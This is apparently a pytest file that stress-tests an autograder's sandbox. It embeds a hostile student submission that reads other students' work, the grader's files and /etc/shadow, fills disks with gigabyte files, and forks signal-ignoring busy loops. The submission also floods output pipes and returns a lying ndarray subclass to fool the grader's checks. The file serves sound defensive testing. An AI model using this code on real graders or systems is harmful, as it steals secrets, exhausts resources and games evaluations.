"""A class in which one submission in ten is hostile, graded with `grade-batch`.

Mallory's backprop is the reference with every attack of issue 21 layered on it: at import she reads the other
students' code and results and the grader's files (its home folder, its working folder, a copy of the references
elsewhere on the disk, the course's own solutions/, /etc/shadow) and prints what she found, writes files of
gigabytes wherever she can, and forks busy loops that ignore SIGTERM; `relu_forward` returns an ndarray subclass
that lies about its shape, dtype and equality; `relu_backward` floods its output with what she read, then shrinks
and fills every pipe it holds and stops reading, ignoring signals. The nine others are honest (right, wrong in one
place, or not started).

What must hold: every student gets a result; each honest student gets exactly the grade they get when graded
alone; nothing Mallory's feedback shows holds another student's or the grader's secrets; no file of hers reaches
the grader's disk; the run ends within its stated bound (each submission within `submission_timeout`, the class
within that times the rounds of `workers`). Kept to the relu checks and short limits: about a minute on 2 cores.
"""

from __future__ import annotations

import json
import math
import os
import secrets
import textwrap
import time
from pathlib import Path

import pytest

from autograder import spec as specs
from autograder.grading import grade
from autograder.instructor import batch as B
from autograder.paths import SOLUTIONS
from autograder.sandbox import Limits
from tests.helpers import mutate, reference_source, write_submission

SLUG = "backprop"
SELECT = ["relu_"]  # relu_forward and relu_backward, public and hidden: 4 checks
LIMITS = Limits(call_timeout=3, import_timeout=3)  # CPU seconds; the wall-clock backstop is 4x + 2 s
SUBMISSION_TIMEOUT = 120.0  # the batch's stated bound for one submission (wall clock)
WORKERS = 2
SEED = 11
RELU_BUG = ("return dout * (x > 0)", "return dout * (x >= 0)")

HOSTILE = '''

# ---------------------------------------------------------------- Mallory's additions
import glob as _glob
import os as _os
import signal as _signal
import sys as _sys
import time as _time

_LOOT = []
for _pattern in PATHS:
    for _p in _glob.glob(_pattern) or [_pattern]:
        try:
            with open(_p, "rb") as _f:
                _LOOT.append(_p + ": " + _f.read(400).decode("latin-1"))
        except OSError as _e:
            _LOOT.append(_p + ": " + type(_e).__name__)
try:
    _LOOT.append("/: " + " ".join(sorted(_os.listdir("/"))))
except OSError:
    pass
print("LOOT", _LOOT)

for _d in (".", "/tmp", "/dev/shm", _os.path.expanduser("~"), *DIRS):  # files of gigabytes
    try:
        with open(_os.path.join(_d, HUGE), "wb") as _f:
            _chunk = b"x" * (1 << 20)
            for _ in range(2048):
                _f.write(_chunk)
    except OSError:
        pass

for _ in range(6):  # busy loops that outlive the import and ignore SIGTERM
    try:
        if _os.fork() == 0:
            _os.setsid()
            _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
            while True:
                pass
    except OSError:
        break


class _Liar(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    @property
    def shape(self):
        return _WANTED_SHAPE

    @property
    def dtype(self):
        return np.dtype("float64")

    def __array__(self, *args, **kwargs):
        return np.zeros(_WANTED_SHAPE)

    def tolist(self):
        return np.zeros(_WANTED_SHAPE).tolist()


_WANTED_SHAPE = (1,)


def relu_forward(x):
    global _WANTED_SHAPE
    _WANTED_SHAPE = np.shape(x)
    liar = np.frombuffer(("|".join(_LOOT)).encode()[:64].ljust(64), dtype=np.uint8).view(_Liar)
    return liar, x


def relu_backward(dout, cache):
    _sys.stdout.write(("FLOOD " + " ".join(_LOOT)) * 20000)
    _sys.stdout.flush()
    try:
        import fcntl
        for _fd in _os.listdir("/proc/self/fd"):
            try:
                fcntl.fcntl(int(_fd), 1031, 4096)  # F_SETPIPE_SZ
                _w = _os.open("/proc/self/fd/" + _fd, _os.O_WRONLY | _os.O_NONBLOCK)
                while True:
                    _os.write(_w, b"\\xff" * 4096)
            except OSError:
                pass
    except Exception:
        pass
    for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGUSR1):
        try:
            _signal.signal(_s, _signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        _time.sleep(1)
'''


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    marker = "SECRET-" + secrets.token_hex(8)
    huge = f"huge-{secrets.token_hex(4)}.bin"
    home = Path(os.path.expanduser("~"))
    grader_files = {
        "home": home / f".dlcourse-test-secret-{secrets.token_hex(4)}",
        "cwd": root / "grader-cwd" / "grades.csv",
        "solutions copy": root / "elsewhere" / "solutions" / SLUG / f"{SLUG}.py",
    }
    for path in grader_files.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{marker} grader\n")
    subs, out = root / "submissions", root / "out"
    ref = reference_source(SLUG)
    honest = {"alice": ref, "bob": specs.load(SLUG).skeleton.read_text(), "carol": mutate(ref, *RELU_BUG)}
    for name in ("dan", "erin", "fay", "gus", "hal", "ivy"):
        honest[name] = ref
    sources = {}
    for name, source in honest.items():
        # Each student's code and output carry a secret of their own: nobody else may see it.
        sources[name] = f"# {marker} {name}\n" + source + f"\nprint('{marker} {name} printed this')\n"
        write_submission(subs, SLUG, sources[name], name)
    paths = [str(p) for p in grader_files.values()] + [
        "/etc/shadow", str(SOLUTIONS / SLUG / f"{SLUG}.py"), str(subs / "*" / f"{SLUG}.py"),
        str(out / "*" / "results.json"), str(out / "grades.csv"), str(Path.cwd() / "*")]
    mallory = (ref + f"\nPATHS = {paths!r}\nDIRS = {[str(subs), str(out), str(root)]!r}\nHUGE = {huge!r}\n"
               + textwrap.dedent(HOSTILE))
    write_submission(subs, SLUG, mallory, "mallory")
    cwd = Path.cwd()
    os.chdir(grader_files["cwd"].parent)
    try:
        t0 = time.monotonic()
        result = B.grade_batch(SLUG, subs, out, workers=WORKERS, select=SELECT, seed=SEED, limits=LIMITS,
                               submission_timeout=SUBMISSION_TIMEOUT, progress=False)
        elapsed = time.monotonic() - t0
    finally:
        os.chdir(cwd)
    yield {"root": root, "subs": subs, "out": out, "result": result, "elapsed": elapsed, "marker": marker,
           "huge": huge, "home": home, "sources": sources, "grader_files": grader_files}
    grader_files["home"].unlink(missing_ok=True)
    (home / huge).unlink(missing_ok=True)


def _results(out: Path, student: str) -> dict:
    return json.loads((out / student / "results.json").read_text())


def test_every_student_gets_a_result(hostile_class):
    result, out = hostile_class["result"], hostile_class["out"]
    students = sorted(hostile_class["sources"]) + ["mallory"]
    assert sorted(o.student for o in result.outcomes) == sorted(students)
    n_checks = len(result.checks)
    assert n_checks == 4
    for student in students:
        data = _results(out, student)
        assert len(data["tests"]) == n_checks, student
        assert data["extra_data"]["batch"]["status"] in (B.STATUS_GRADED, B.STATUS_TIMEOUT), (student, data)
    assert _results(out, "mallory")["score"] == 0  # the lies and the attacks earn nothing


def test_honest_students_get_exactly_their_grades_alone(hostile_class, tmp_path):
    out, sources = hostile_class["out"], hostile_class["sources"]
    alone_by_source = {}
    for student, source in sorted(sources.items()):
        batch = {t["name"]: t["score"] for t in _results(out, student)["tests"]}
        if source not in alone_by_source:
            path = write_submission(tmp_path, SLUG, source, student)
            report = grade(SLUG, path, seed=SEED, select=SELECT, limits=LIMITS)
            alone_by_source[source] = {r.name: r.score for r in report.results}
        assert batch == alone_by_source[source], student
        assert _results(out, student)["extra_data"]["batch"]["status"] == B.STATUS_GRADED, student
    full = sum(c.points for c in hostile_class["result"].checks)
    assert _results(out, "alice")["score"] == full and _results(out, "bob")["score"] == 0
    assert 0 < _results(out, "carol")["score"] < full


def test_the_hostile_feedback_holds_no_secret(hostile_class):
    out, marker = hostile_class["out"], hostile_class["marker"]
    shown = (out / "mallory" / "results.json").read_text()
    assert marker not in shown  # no other student's code or output, no file of the grader
    assert "root:" not in shown  # /etc/shadow
    for student in hostile_class["sources"]:
        # and no honest student's feedback carries anything of Mallory's (her flood, her loot)
        assert "LOOT" not in (out / student / "results.json").read_text(), student


def test_no_hostile_file_reaches_the_graders_disk(hostile_class):
    huge = hostile_class["huge"]
    assert list(hostile_class["root"].rglob(huge)) == []
    for folder in (hostile_class["home"], Path("/tmp"), Path("/dev/shm"), Path.cwd()):
        assert not (folder / huge).exists(), folder
    big = [p for p in hostile_class["root"].rglob("*") if p.is_file() and p.stat().st_size > 16 * 1024**2]
    assert big == []


def test_the_run_ends_within_its_stated_bound(hostile_class):
    result = hostile_class["result"]
    rounds = math.ceil(len(result.outcomes) / WORKERS)
    print(f"class of {len(result.outcomes)} graded in {hostile_class['elapsed']:.1f} s; per student: "
          + ", ".join(f"{o.student} {o.wall_seconds:.1f} s" for o in result.outcomes))
    for outcome in result.outcomes:
        assert outcome.wall_seconds <= SUBMISSION_TIMEOUT + 10, outcome  # + the kill grace
    assert hostile_class["elapsed"] <= rounds * SUBMISSION_TIMEOUT
    # and in practice, far within it: one stalled call costs its wall-clock backstop once, not once per check
    mallory = result.by_student()["mallory"]
    assert mallory.wall_seconds <= 4 * LIMITS.wall(LIMITS.call_timeout) + 30, mallory
